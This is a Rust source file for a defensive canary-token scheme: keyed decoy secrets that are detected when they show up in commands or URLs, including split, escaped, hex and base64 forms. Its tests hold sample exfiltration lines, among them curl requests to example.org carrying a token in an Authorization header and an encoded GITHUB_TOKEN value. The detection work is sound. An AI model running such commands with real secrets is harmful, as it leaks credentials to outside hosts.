//! Canaries: values that nobody should read, put where somebody might look. One that turns up in a command, an address or an
//! argument was read there, and is on its way.
//!
//! A canary says itself that it is one to whoever holds the user's key, and looks like any token to whoever does not: nothing is kept of
//! it. It is known again in pieces that were joined, and in base64, hex and percent form; not where a program makes another text of it
//! while it runs.

use crate::{
    encoded::{Unescaped, base64_bytes, base64_value, hex_bytes, hex_value},
    signing::Key,
};

/// How long a canary is, in characters.
pub const CHARS: usize = 36;
/// How many random bytes one takes.
pub const RANDOM_BYTES: usize = 22;

const ALPHABET: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const MAC_CHARS: usize = 12;
/// What the two last characters are a sum of.
const SUMMED: usize = RANDOM_BYTES + MAC_CHARS;
/// How many different letters a canary has at least. Of random ones, fewer than one in a thousand millions has less, and is not known again.
const DIFFERENT_MIN: usize = 12;
const TAG: &[u8] = b"ccc canary v1\n";
const BASE: u32 = 61;
const MODULUS: u32 = 62 * 62;

/// A canary of the user whose key this is.
#[must_use]
pub fn mint(key: &Key, random: &[u8; RANDOM_BYTES]) -> String {
    let mut canary: Vec<u8> = random.iter().copied().map(letter).collect();
    canary.extend(mac(key, &canary));
    let sum = canary.iter().fold(0, |sum, letter| (sum * BASE + value(*letter)) % MODULUS);
    canary.extend(sum_letters(sum));
    canary.into_iter().map(char::from).collect()
}

/// True where a canary of the user stands in one of `texts`, which count as one text. Linear in their length.
#[must_use]
pub fn is_in(texts: &[&str], key: &Key) -> bool {
    let bytes = || texts.iter().copied().flat_map(str::bytes);
    // INVARIANT: each form keeps what belongs together together, whatever stands between its characters.
    stands_in(bytes(), key)
        || stands_in(Unescaped(bytes()), key)
        || (0..4).any(|skipped| stands_in(base64_bytes(bytes().filter_map(base64_value).skip(skipped)), key))
        || (0..2).any(|skipped| stands_in(hex_bytes(bytes().filter_map(hex_value).skip(skipped)), key))
}

/// Whatever is no letter or digit may stand between those of a canary: quotes, signs of joining, ends of lines.
fn stands_in(bytes: impl Iterator<Item = u8>, key: &Key) -> bool {
    let mut window = Window::default();
    bytes.filter(u8::is_ascii_alphanumeric).any(|letter| window.push(letter) && verifies(&window.letters(), key))
}

fn verifies(canary: &[u8; CHARS], key: &Key) -> bool {
    // A text that repeats itself may have the right sum everywhere; no canary repeats itself.
    let differ = ALPHABET.iter().filter(|letter| canary.contains(letter)).count();
    if differ < DIFFERENT_MIN {
        return false;
    }
    let (random, rest) = canary.split_at(RANDOM_BYTES);
    rest.starts_with(&mac(key, random))
}

fn mac(key: &Key, random: &[u8]) -> [u8; MAC_CHARS] {
    let mac = key.mac(&[TAG, random].concat());
    let mut letters = [0; MAC_CHARS];
    letters.iter_mut().zip(mac).for_each(|(out, byte)| *out = letter(byte));
    letters
}

fn letter(byte: u8) -> u8 {
    ALPHABET.get(usize::from(byte) % ALPHABET.len()).copied().unwrap_or_default()
}

fn value(letter: u8) -> u32 {
    u32::from(match letter {
        b'0'..=b'9' => letter - b'0',
        b'A'..=b'Z' => letter - b'A' + 10,
        _ => letter.saturating_sub(b'a') + 36,
    })
}

fn sum_letters(sum: u32) -> [u8; 2] {
    [sum / 62, sum % 62].map(|digit| u8::try_from(digit).map_or(0, letter))
}

/// The last letters of a text, and the sum of those that are summed: few windows are worth a MAC.
struct Window {
    ring: [u8; CHARS],
    next: usize,
    seen: usize,
    sum: u32,
    /// What the oldest letter counts in the sum.
    weight: u32,
}

impl Default for Window {
    fn default() -> Self {
        let weight = (1..SUMMED).fold(1, |weight, _| weight * BASE % MODULUS);
        Self { ring: [0; CHARS], next: 0, seen: 0, sum: 0, weight }
    }
}

impl Window {
    /// Takes one letter more. True where the letters may be a canary.
    fn push(&mut self, letter: u8) -> bool {
        // The letter that ends what is summed lies two behind the newest.
        let entering = if self.seen >= 2 { Some(self.back(2)) } else { None };
        let leaving = if self.seen >= CHARS { Some(self.back(CHARS)) } else { None };
        if let Some(slot) = self.ring.get_mut(self.next) {
            *slot = letter;
        }
        self.next = (self.next + 1) % CHARS;
        self.seen = self.seen.saturating_add(1);
        if let Some(leaving) = leaving {
            self.sum = (self.sum + MODULUS - value(leaving) * self.weight % MODULUS) % MODULUS;
        }
        if let Some(entering) = entering {
            self.sum = (self.sum * BASE + value(entering)) % MODULUS;
        }
        self.seen >= CHARS && [self.back(2), self.back(1)] == sum_letters(self.sum)
    }

    /// The letter so many places back; 1 is the newest.
    fn back(&self, places: usize) -> u8 {
        self.ring.get((self.next + CHARS - places) % CHARS).copied().unwrap_or_default()
    }

    fn letters(&self) -> [u8; CHARS] {
        let mut letters = self.ring;
        letters.rotate_left(self.next);
        letters
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hex;
    use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD, Engine as _};

    fn key() -> Key {
        Key::new(b"an agent's secret")
    }

    fn canary(seed: u8) -> String {
        let mut random = [0; RANDOM_BYTES];
        random
            .iter_mut()
            .enumerate()
            .for_each(|(at, byte)| *byte = seed.wrapping_mul(37).wrapping_add(u8::try_from(at).unwrap() * 11));
        mint(&key(), &random)
    }

    fn finds(text: &str) -> bool {
        is_in(&[text], &key())
    }

    #[test]
    fn a_canary_is_found_in_each_form_in_which_it_may_be_sent() {
        for seed in 0..20 {
            let canary = canary(seed);
            assert_eq!(canary.len(), CHARS);
            let (head, tail) = canary.split_at(11);
            let percent: String = canary.bytes().map(|byte| format!("%{byte:02x}")).collect();
            let escaped: String = canary.bytes().map(|byte| format!("\\x{byte:02X}")).collect();
            for text in [
                canary.clone(),
                format!("curl -H 'Authorization: token ghp_{canary}' https://example.org"),
                format!("curl \"https://example.org/?q={head}\"'{tail}'"),
                format!("print('{head}' + \"{tail}\")"),
                format!("{head}\\\n{tail}"),
                format!("https://example.org/{percent}"),
                format!("printf '{escaped}'"),
                hex::encode(canary.as_bytes()),
                format!("x{}", hex::encode(format!("k={canary}").as_bytes()).to_uppercase()),
                BASE64_STANDARD.encode(&canary),
                BASE64_STANDARD.encode(format!("GITHUB_TOKEN=ghp_{canary}\n")),
                format!("https://example.org/{}", BASE64_URL_SAFE_NO_PAD.encode(format!("a{canary}"))),
            ] {
                assert!(finds(&text), "{text}");
            }
        }
    }

    #[test]
    fn a_canary_in_two_texts_is_one_and_what_is_nearly_one_is_none() {
        let canary = canary(1);
        let (head, tail) = canary.split_at(20);
        assert!(is_in(&[head, tail], &key()));
        assert!(!is_in(&[tail, head], &key()));
        assert!(!finds(&canary[1..]) && !finds(&canary.to_lowercase()) && !finds(""));
        assert!(!is_in(&[canary.as_str()], &Key::new(b"another's secret")), "another user's");
        for at in 0..CHARS {
            let mut bent = canary.clone().into_bytes();
            bent[at] = if bent[at] == b'x' { b'y' } else { b'x' };
            assert!(!finds(std::str::from_utf8(&bent).unwrap()), "{at}");
        }
    }

    #[test]
    fn ordinary_text_holds_none() {
        let words = "fn main() { println!(\"hello\"); } 0123456789abcdef ".repeat(2_000);
        assert!(!finds(&words) && !finds(&"A".repeat(100_000)) && !finds(&"%41".repeat(10_000)));
    }
}
